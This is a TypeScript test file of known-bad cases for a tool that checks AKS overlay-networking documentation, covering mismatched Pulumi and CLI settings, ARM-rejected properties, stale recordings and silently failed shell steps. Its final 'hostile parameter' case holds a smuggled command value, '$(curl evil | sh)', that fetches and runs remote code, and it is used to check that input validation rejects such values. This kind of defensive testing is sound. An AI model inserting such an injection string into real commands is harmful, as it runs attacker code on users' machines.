import { isDeepStrictEqual } from 'node:util';
import { snippet } from '../../snippets/registry.ts';
import { facts as overlayFacts } from '../../snippets/create-overlay/facts.ts';
import { parseParameters } from '../../src/aks/parameters.ts';
import { stateOf, textHash } from '../../src/proof/state.ts';
import { bodyOfPulumi, reduceBody, reduceFacts } from '../agreement/reduce.ts';
import { stepFaults } from '../journeys/faults.ts';
import type { StepRecording } from '../journeys/recording.ts';
import { putBody } from './arm.ts';
import { thrown, type KnownBad } from './case.ts';

const pulumiInputs = {
  identity: { type: 'SystemAssigned' },
  agentPoolProfiles: [
    { name: 'nodepool1', mode: 'System', type: 'VirtualMachineScaleSets', osType: 'Linux', count: 2 },
  ],
  networkProfile: {
    networkPlugin: 'azure',
    networkPluginMode: 'overlay',
    networkDataplane: 'azure',
    podCidr: '10.244.0.0/16',
  },
};

const stated = reduceFacts(overlayFacts(parseParameters()));

function disagreement(changed: Readonly<Record<string, unknown>>): string {
  const reduced = reduceBody(bodyOfPulumi({ ...pulumiInputs, ...changed }));
  return isDeepStrictEqual(reduced, stated) ? '' : 'the faces disagree';
}

const ran: StepRecording = {
  snippet: 'connect/credentials',
  kind: 'az',
  sha256: '',
  status: 0,
  stdout: '',
  calls: [],
  arm: [],
  kubernetes: [],
  execs: [],
};
const step = { snippet: 'connect/credentials', kind: 'az' } as const;

/** Faces that disagree, programs that ARM refuses, recordings that prove nothing. */
export const faceCases: readonly KnownBad[] = [
  {
    name: 'a digit of the pod CIDR differs in one face',
    story:
      'The Pulumi tab shows 10.245, the CLI tab 10.244; the reader mixes both and the migration overlaps.',
    caught: () =>
      disagreement({ networkProfile: { ...pulumiInputs.networkProfile, podCidr: '10.245.0.0/16' } }),
    says: 'the faces disagree',
  },
  {
    name: 'one face asks for more than the facts say',
    story: 'A setting added to one tab only.',
    caught: () =>
      disagreement({ networkProfile: { ...pulumiInputs.networkProfile, networkPolicy: 'calico' } }),
    says: 'the faces disagree',
  },
  {
    name: 'another node count in one face',
    story: 'Two nodes in one tab, three in the other.',
    caught: () => disagreement({ agentPoolProfiles: [{ ...pulumiInputs.agentPoolProfiles[0], count: 3 }] }),
    says: 'the faces disagree',
  },
  {
    name: 'Pulumi string outside the enum of ARM',
    story:
      "networkPlugin: 'azur' compiles, because Pulumi types it as string; Azure refuses it after minutes.",
    caught: () => putBody({ networkPlugin: 'azur' }),
    says: 'azur',
  },
  {
    name: 'property that ARM does not know',
    story: 'A misspelt property in a template is dropped or refused, never applied.',
    caught: () => putBody({ networkPlugin: 'azure', networkPluginMod: 'overlay' }),
    says: 'networkPluginMod',
  },
  {
    name: 'Cilium dataplane with another policy engine',
    story: 'CiliumDataplaneRequiresNetworkPolicyCilium, reported since 2023.',
    caught: () =>
      putBody({
        networkPlugin: 'azure',
        networkPluginMode: 'overlay',
        networkDataplane: 'cilium',
        networkPolicy: 'calico',
      }),
    says: 'Cilium dataplane requires network policy cilium.',
  },
  {
    name: 'service range as large as /12',
    story: 'A source document plans 10.96.0.0/12 for Services; AKS wants it smaller.',
    caught: () =>
      putBody({
        networkPlugin: 'azure',
        networkPluginMode: 'overlay',
        serviceCidr: '10.96.0.0/12',
        dnsServiceIP: '10.96.0.10',
      }),
    says: '10.96.0.0/12',
  },
  {
    name: 'changed snippet without a new run',
    story: 'The green line under a snippet speaks of the text before the edit.',
    caught: () => {
      const face = { kind: 'az', text: 'az aks list\n' } as const;
      const sha256 = textHash('az aks list --output table\n');
      const faces = { 'a/b az': { sha256, levels: { ran: 'az' } } };
      return stateOf('a/b', face, false, [{ date: '2026-11-21', faces }])
        .levels.map(({ level, state }) => `${level} ${state}`)
        .join(', ');
    },
    says: 'ran not run',
  },
  {
    name: 'call that failed in the middle of a script',
    story: 'Only the last status of a pasted script is seen.',
    caught: () =>
      stepFaults(step, 'az aks list\n', { ...ran, calls: [call('az', 3, true, 'ERROR: not found')] }).join(),
    says: 'ended with status 3: ERROR: not found',
  },
  {
    name: 'selector that matches nothing',
    story: 'kubectl get pods -l component=azure-cni ends with status 0 and finds nothing on any AKS cluster.',
    caught: () =>
      stepFaults(step, 'kubectl get pods\n', {
        ...ran,
        calls: [call('kubectl', 0, false, 'No resources found in kube-system namespace.')],
      }).join(),
    says: 'matched nothing in the cluster',
  },
  {
    name: 'jsonpath that selects nothing',
    story: 'A wrong path prints an empty line and status 0.',
    caught: () =>
      stepFaults(step, 'kubectl get nodes\n', { ...ran, calls: [call('kubectl', 0, false, '')] }).join(),
    says: 'printed nothing; does it select anything?',
  },
  {
    name: 'command that the shell skipped',
    story: 'A line behind && or a broken continuation never ran, and nobody noticed.',
    caught: () =>
      stepFaults(step, 'az aks list\naz aks show --name a --resource-group b\n', {
        ...ran,
        calls: [call('az', 0, true, '')],
      }).join(),
    says: 'expected 2 tool calls, as the text has; the shell made 1',
  },
  {
    name: 'hostile parameter',
    story: 'A shared link with clusterName=$(curl evil | sh).',
    caught: () =>
      thrown(() => snippet('clean-up/delete-group', parseParameters({ resourceGroup: '$(curl evil | sh)' }))),
    says: 'resourceGroup: expected 1 to 90 characters',
  },
];

function call(
  tool: string,
  status: number,
  printed: boolean,
  stderr: string,
): StepRecording['calls'][number] {
  return { words: [tool, 'x'], status, printed, stderr };
}
